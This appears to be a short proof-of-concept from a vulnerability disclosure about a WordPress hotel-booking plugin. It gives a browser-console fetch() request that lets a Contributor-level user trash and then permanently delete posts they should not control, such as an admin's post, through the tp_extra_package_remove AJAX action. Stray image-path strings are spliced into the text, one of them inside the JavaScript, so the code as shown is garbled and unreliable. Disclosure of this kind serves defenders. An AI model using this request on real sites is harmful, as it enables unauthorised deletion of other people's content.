Run the below command in the developer console of the web browser while being on the blog as a Contributor user. This will put the post with ID 1 in the trash (change this ID to a post the user should not be able to delete, like one created by an admin). Run it again to delete the post

fetch("/wp-admin/admin-ajax.php", {"headers": {"content-type": "application/x-www-form-urlencoded; charset=UTF-8"},"body": 'action=tp_extra_package_remove&package_id=1&nonce=' +hotel_settings['nonce'],"method": "POST"});